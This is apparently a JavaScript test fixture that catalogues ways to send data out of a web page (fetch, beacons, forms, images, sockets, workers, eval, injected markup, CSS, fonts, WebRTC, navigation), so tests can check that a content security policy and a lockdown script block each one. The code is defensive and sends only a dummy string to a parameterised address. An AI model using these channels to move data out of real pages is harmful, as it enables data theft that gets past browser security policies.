// Ways to carry something out of a page, for tests that want none of them to work.

// Each runs in the page with the address to reach, and settles when it has had its chance.
export const attempts = {
  fetch: (at) => fetch(at, { method: "POST", body: "film" }),
  "fetch without CORS": (at) => fetch(at, { mode: "no-cors", method: "POST", body: "film" }),
  XMLHttpRequest: (at) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open("POST", at);
      request.send("film");
    }),
  sendBeacon: (at) => {
    // It says true and sends nothing.
    navigator.sendBeacon(at, "film");
    throw new Error("counted at the server");
  },
  "form post": (at) => {
    const form = document.createElement("form");
    Object.assign(form, { action: at, method: "post" });
    document.body.append(form);
    form.submit();
    throw new Error("counted at the server");
  },
  image: (at) =>
    new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = reject;
      image.src = `${at}?film`;
    }),
  WebSocket: (at) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(at.replace("http", "ws"));
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
  EventSource: (at) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(at);
      source.onopen = resolve;
      source.onerror = reject;
    }),
  "worker from an address": (at) => new Worker(at),
  "worker from a blob": (at) =>
    new Worker(URL.createObjectURL(new Blob([`fetch("${at}", { method: "POST" })`]))),
  "script element": async (at) => {
    const script = document.createElement("script");
    script.src = at;
    document.head.append(script);
  },
  import: (at) => import(at),
  eval: (at) => (0, eval)(`fetch("${at}")`),
  "markup with a handler": (at) => {
    document.body.innerHTML += `<img src="${at}" onerror="fetch('${at}')">`;
  },
  "style sheet": (at) =>
    new Promise((resolve, reject) => {
      const link = document.createElement("link");
      Object.assign(link, { rel: "stylesheet", href: at, onload: resolve, onerror: reject });
      document.head.append(link);
    }),
  "background image": async (at) => {
    document.body.style.backgroundImage = `url(${at})`;
    await new Promise(requestAnimationFrame);
    throw new Error("counted at the server");
  },
  font: (at) => new FontFace("f", `url(${at})`).load(),
  media: (at) =>
    new Promise((resolve, reject) => {
      const audio = new Audio(at);
      audio.onloadedmetadata = resolve;
      audio.onerror = reject;
    }),
  frame: async (at) => {
    const frame = document.createElement("iframe");
    frame.src = at;
    document.body.append(frame);
    await new Promise((resolve) => (frame.onload = resolve));
    throw new Error("counted at the server");
  },
  object: (at) =>
    new Promise((resolve, reject) => {
      const object = document.createElement("object");
      Object.assign(object, { data: at, type: "text/html", onload: resolve, onerror: reject });
      document.body.append(object);
    }),
  prefetch: (at) =>
    new Promise((resolve, reject) => {
      const link = document.createElement("link");
      Object.assign(link, { rel: "prefetch", href: at, onload: resolve, onerror: reject });
      document.head.append(link);
    }),
  "ping of a link": async (at) => {
    const link = document.createElement("a");
    Object.assign(link, { href: "javascript:void 0", ping: at });
    document.body.append(link);
    link.click();
    throw new Error("counted at the server");
  },
  "base address": async (at) => {
    const base = document.createElement("base");
    base.href = at;
    document.head.append(base);
    if (document.baseURI.startsWith(at)) return;
    throw new Error("the base stays");
  },
};

// More that the policy closes; what a browser does not have, it cannot send with.
Object.assign(attempts, {
  "image in SVG": (at) =>
    new Promise((resolve, reject) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.onload = resolve;
      image.onerror = reject;
      image.setAttribute("href", at);
      svg.append(image);
      document.body.append(svg);
    }),
  embed: async (at) => {
    const embed = document.createElement("embed");
    Object.assign(embed, { src: at, type: "text/html" });
    document.body.append(embed);
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  poster: async (at) => {
    document.body.append(Object.assign(document.createElement("video"), { poster: at }));
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  "picture on a button": async (at) => {
    document.body.append(
      Object.assign(document.createElement("input"), { type: "image", src: at }),
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  preload: (at) =>
    new Promise((resolve, reject) => {
      const link = document.createElement("link");
      Object.assign(link, { rel: "preload", as: "image", href: at });
      Object.assign(link, { onload: resolve, onerror: reject });
      document.head.append(link);
    }),
  "style sheet of a script": async (at) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${at}) }`);
    document.adoptedStyleSheets = [sheet];
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  fetchLater: (at) => {
    fetchLater(at, { method: "POST", body: "film", activateAfter: 0 });
    throw new Error("counted at the server");
  },
});

// What no policy closes, and lockdown.ts does.
export const beyondPolicy = {
  WebRTC: async (at) => {
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: `turn:${new URL(at).host}?transport=tcp`, username: "film", credential: "film" },
      ],
    });
    connection.createDataChannel("film");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
  },
  location: async (at) => {
    location.href = `${at}?film`;
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  "location.replace": async (at) => {
    location.replace(`${at}?film`);
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  link: async (at) => {
    const link = document.createElement("a");
    link.href = `${at}?film`;
    document.body.append(link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  refresh: async (at) => {
    const refresh = document.createElement("meta");
    Object.assign(refresh, { httpEquiv: "refresh", content: `0; url=${at}?film` });
    document.head.append(refresh);
    await new Promise((resolve) => setTimeout(resolve, 500));
    throw new Error("counted at the server");
  },
  download: async (at) => {
    const link = document.createElement("a");
    Object.assign(link, { href: `${at}?film`, download: "film" });
    document.body.append(link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 300));
    throw new Error("counted at the server");
  },
  "a new window": async (at) => {
    window.open(`${at}?film`);
    throw new Error("counted at the server");
  },
};

// From the worker.
export const inWorker = {
  fetch: attempts.fetch,
  XMLHttpRequest: attempts.XMLHttpRequest,
  WebSocket: attempts.WebSocket,
  importScripts: (at) => importScripts(at),
};
